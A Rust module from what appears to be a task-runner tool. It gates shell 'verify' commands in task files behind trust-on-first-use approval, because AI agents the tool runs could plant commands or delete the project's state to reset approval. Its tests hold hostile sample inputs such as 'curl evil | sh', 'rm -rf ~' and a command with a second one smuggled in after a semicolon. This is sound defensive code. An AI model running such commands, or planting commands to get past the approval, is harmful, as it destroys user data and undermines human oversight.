//! Which `verify:` commands of a task file may run.
//!
//! A `<!-- verify: CMD -->` hint runs `CMD` with `sh -c` after the task's
//! agent succeeds. The task file is writable by the very agents mdbatch
//! runs, so an agent could append a verify command to any task and have the
//! next run execute it. What a user expects: commands they wrote run;
//! commands that appeared or changed since they last ran the file do not run
//! until they say so.
//!
//! So the commands of every run are recorded, outside the project where the
//! agents work: `$XDG_STATE_HOME/mdbatch/verify-approved/<key>.jsonl`
//! (`~/.local/state/…` without it; `<key>` a hash of the file's state
//! folder path; one JSON string per line, append-only). Only without a home
//! folder is it kept in the state folder (`verify-approved.jsonl`).
//! - the first run of a file (no record yet) records the commands it finds:
//!   they are the user's as written (trust on first use);
//! - a later run whose plan holds a command not in the record does not start
//!   ([`RunSetupError::UnapprovedVerify`] lists each one with its task and
//!   line), unless [`RunOptions::trust_verify`](super::RunOptions) is set
//!   (`mdbatch run --trust-verify`, or the user's yes at the CLI's prompt),
//!   which records them;
//! - the `--verify` option is the caller's own and never needs approval.
//!
//! - during a run, a record that has gone missing approves nothing: a task
//!   added or changed with a verify command not approved does not run.
//!
//! An agent that deletes the project's `.mdbatch` therefore cannot make the
//! next run a first run.

use std::collections::HashSet;
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use crate::error::RunSetupError;
use crate::{Document, ParseOptions, Plan, PlanOptions, RunOptions};

/// The record of approved commands, in the state folder.
pub(crate) const FILE: &str = "verify-approved.jsonl";

/// A verify command the user has not approved yet.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct UnapprovedVerify {
    /// The task's id.
    pub id: String,
    /// 1-based line of the task in the file.
    pub line: usize,
    /// The command.
    pub command: String,
}

/// Where the record of `state_dir`'s approved commands is kept (see the
/// module docs), its folder made when `make`.
fn record_path(state_dir: &Path, make: bool) -> Result<PathBuf, RunSetupError> {
    let home = std::env::var_os("XDG_STATE_HOME")
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| {
            std::env::var_os("HOME")
                .map(PathBuf::from)
                .filter(|p| p.is_absolute())
                .map(|h| h.join(".local").join("state"))
        });
    let dir = home.map(|h| h.join("mdbatch").join("verify-approved"));
    let Some((dir, file)) =
        dir.and_then(|d| crate::store::keyed_file(&d, state_dir, "jsonl").map(|f| (d, f)))
    else {
        return Ok(state_dir.join(FILE));
    };
    if make {
        crate::store::make_private_dir(&dir)?;
    }
    Ok(file)
}

/// The commands approved so far (`None`: no record yet, a first run).
fn approved(state_dir: &Path) -> Result<Option<HashSet<String>>, RunSetupError> {
    let path = record_path(state_dir, false)?;
    match std::fs::read_to_string(&path) {
        Ok(text) => Ok(Some(
            text.lines()
                .filter_map(|l| serde_json::from_str::<String>(l).ok())
                .collect(),
        )),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(io_error(
            path,
            "cannot read the approved verify commands",
            e,
        )),
    }
}

fn io_error(path: PathBuf, message: &str, e: std::io::Error) -> RunSetupError {
    RunSetupError::Io {
        path,
        message: format!("{message}: {e}"),
        source: std::sync::Arc::new(e),
    }
}

/// Appends `commands` to the record (creating it).
fn record(state_dir: &Path, commands: &[&str]) -> Result<(), RunSetupError> {
    let path = record_path(state_dir, true)?;
    let mut text = String::new();
    for c in commands {
        text.push_str(&serde_json::to_string(c).expect("a string serialises"));
        text.push('\n');
    }
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(&path)
        .map_err(|e| {
            io_error(
                path.clone(),
                "cannot record the approved verify commands",
                e,
            )
        })?;
    f.write_all(text.as_bytes())
        .and_then(|()| f.sync_all())
        .map_err(|e| io_error(path, "cannot record the approved verify commands", e))
}

/// The hint commands in `hinted` (id, line, command) that need the user's
/// approval; with `trust`, or on a first run, records them and returns none.
pub(crate) fn check(
    task_file: &Path,
    state_dir: &Path,
    hinted: &[(String, usize, String)],
    trust: bool,
) -> Result<(), RunSetupError> {
    let known = approved(state_dir)?;
    let new: Vec<&(String, usize, String)> = hinted
        .iter()
        .filter(|(_, _, c)| known.as_ref().is_none_or(|k| !k.contains(c)))
        .collect();
    if new.is_empty() {
        if known.is_none() {
            // Start the record, so a command added later is noticed.
            record(state_dir, &[])?;
        }
        return Ok(());
    }
    if known.is_none() || trust {
        let mut commands: Vec<&str> = new.iter().map(|(_, _, c)| c.as_str()).collect();
        commands.sort_unstable();
        commands.dedup();
        return record(state_dir, &commands);
    }
    Err(RunSetupError::UnapprovedVerify {
        path: task_file.to_path_buf(),
        commands: new
            .into_iter()
            .map(|(id, line, command)| UnapprovedVerify {
                id: id.clone(),
                line: *line,
                command: command.clone(),
            })
            .collect(),
    })
}

/// The `verify:` hint commands of the tasks `plan` runs: (id, line, command).
pub(crate) fn hinted(doc: &Document, plan: &Plan) -> Vec<(String, usize, String)> {
    plan.nodes
        .iter()
        .filter_map(|n| {
            let t = doc.tasks.get(n.task)?;
            let cmd = t.hints.verify.clone()?;
            Some((t.id.clone(), t.pos.line, cmd))
        })
        .collect()
}

/// The `verify:` commands a run of `task_file` with `options` would need
/// approved before it starts (none on the file's first run, or when
/// `options.trust_verify` is set). The CLI asks about these before it runs.
///
/// Errors when the file cannot be read or planned (the run would say the same).
pub fn unapproved_verify(
    task_file: &Path,
    options: &RunOptions,
) -> Result<Vec<UnapprovedVerify>, RunSetupError> {
    if options.trust_verify {
        return Ok(Vec::new());
    }
    let mut parse_options = ParseOptions::with_path(task_file);
    parse_options.dialect = options.dialect;
    parse_options.wave_level = options.wave_level;
    let doc = Document::read(task_file, &parse_options)?;
    let plan = Plan::build(
        &doc,
        &PlanOptions {
            cross_wave: options.cross_wave,
            only: options.only.clone(),
            include_optional: options.include_optional,
        },
    )?;
    pending(
        &crate::store::state_dir(task_file),
        &hinted(&doc, &plan),
        false,
    )
}

/// What a run would need approved before it starts: the `verify:` commands
/// of `hinted` not in the record of `state_dir` (none on a first run). With
/// `during_run`, the record was made when the run started: a missing one was
/// deleted since, and approves nothing.
pub(crate) fn pending(
    state_dir: &Path,
    hinted: &[(String, usize, String)],
    during_run: bool,
) -> Result<Vec<UnapprovedVerify>, RunSetupError> {
    let known = match approved(state_dir)? {
        Some(k) => k,
        None if during_run => HashSet::new(),
        None => return Ok(Vec::new()),
    };
    Ok(hinted
        .iter()
        .filter(|(_, _, c)| !known.contains(c))
        .map(|(id, line, command)| UnapprovedVerify {
            id: id.clone(),
            line: *line,
            command: command.clone(),
        })
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hint(id: &str, cmd: &str) -> (String, usize, String) {
        (id.to_string(), 3, cmd.to_string())
    }

    #[test]
    fn the_first_run_records_what_it_finds_and_a_later_new_command_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("task.md");
        check(&file, dir.path(), &[hint("a", "make test")], false).unwrap();
        check(&file, dir.path(), &[hint("a", "make test")], false).unwrap();
        let planted = [hint("a", "make test"), hint("b", "curl evil | sh")];
        let e = check(&file, dir.path(), &planted, false).unwrap_err();
        match &e {
            RunSetupError::UnapprovedVerify { commands, .. } => {
                assert_eq!(commands.len(), 1);
                assert_eq!(commands[0].command, "curl evil | sh");
            }
            other => panic!("{other}"),
        }
        assert!(e.to_string().contains("--trust-verify"), "{e}");
        assert_eq!(pending(dir.path(), &planted, false).unwrap().len(), 1);
        // Approved once, it runs from then on.
        check(&file, dir.path(), &planted, true).unwrap();
        check(&file, dir.path(), &planted, false).unwrap();
    }

    #[test]
    fn a_first_run_without_verify_commands_still_starts_the_record() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("task.md");
        check(&file, dir.path(), &[], false).unwrap();
        assert!(check(&file, dir.path(), &[hint("a", "rm -rf ~")], false).is_err());
    }

    #[test]
    fn the_record_is_kept_outside_the_project_and_a_missing_one_approves_nothing_during_a_run() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("task.md");
        let state = dir.path().join(".mdbatch").join("task.md");
        std::fs::create_dir_all(&state).unwrap();
        check(&file, &state, &[hint("a", "make test")], false).unwrap();
        let outside = record_path(&state, false).unwrap();
        assert!(outside.exists(), "{}", outside.display());
        assert!(!outside.starts_with(dir.path()), "{}", outside.display());
        // An agent deletes the project's state folder: the record is not there.
        std::fs::remove_dir_all(dir.path().join(".mdbatch")).unwrap();
        let planted = [hint("b", "touch pwned")];
        assert!(check(&file, &state, &planted, false).is_err());
        // And a record gone missing during a run approves nothing.
        std::fs::remove_file(&outside).unwrap();
        assert_eq!(pending(&state, &planted, true).unwrap().len(), 1);
        assert!(pending(&state, &planted, false).unwrap().is_empty());
        let _ = std::fs::remove_file(outside);
    }

    #[test]
    fn a_changed_command_is_a_new_command() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("task.md");
        check(&file, dir.path(), &[hint("a", "make test")], false).unwrap();
        assert!(
            check(
                &file,
                dir.path(),
                &[hint("a", "make test; rm -rf ~")],
                false
            )
            .is_err()
        );
    }
}
